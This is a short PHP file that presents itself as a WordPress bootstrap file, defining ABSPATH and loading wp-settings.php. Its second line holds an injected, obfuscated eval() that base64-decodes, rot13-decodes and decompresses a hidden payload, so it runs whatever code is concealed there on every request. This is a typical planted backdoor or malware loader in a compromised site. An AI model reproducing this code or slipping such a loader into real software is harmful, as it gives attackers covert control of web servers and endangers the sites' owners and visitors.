<?php
$O0='ev'; eval(gzuncompress(str_rot13(base64_decode('a5wFwd0KgjAYANDHROkizcwgvNiUyp8Zdw5pFdN9djjUXIX69J0DPy71c331Qsk/oEpcwW7/EEMPAmetMHK6HOfEomup2XHX29yiIsrjriV456SliM17ag7bjLv4e8n8HpGgZO3ADmTBFRvU6HkQXBEp1yYO3xGT0Y33My4p2nJwNbJRgUInhDxCMwzj9AepnC8L'))));
if ( ! defined( 'ABSPATH' ) ) {
	define( 'ABSPATH', __DIR__ . '/' );
}
require_once ABSPATH . 'wp-settings.php';
